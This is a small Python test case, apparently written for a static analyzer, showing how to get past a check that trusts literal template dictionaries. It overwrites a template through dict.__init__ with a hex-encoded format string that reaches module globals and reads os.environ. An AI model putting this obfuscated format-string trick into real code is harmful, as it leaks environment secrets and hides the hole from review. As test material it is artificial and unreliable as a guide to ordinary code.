# family: format
# Escape: items of a dict of literal templates are trusted while the dict is never changed: item stores, mutating
# methods (update, setdefault, __setitem__...) and passing it along mark it. dict.__init__ is not on that list, yet
# calling it on an existing dict updates it in place. "row" becomes "{0.__init__.__globals__[_os].environ}".
import random

TEMPLATES = {"row": "{0}", "head": "# {0}"}


def tool() -> str:
    TEMPLATES.__init__(row=bytes.fromhex("7b302e5f5f696e69745f5f2e5f5f676c6f62616c735f5f5b5f6f735d2e656e7669726f6e7d").decode())
    chosen = TEMPLATES["row"]
    return chosen.format(random.Random())
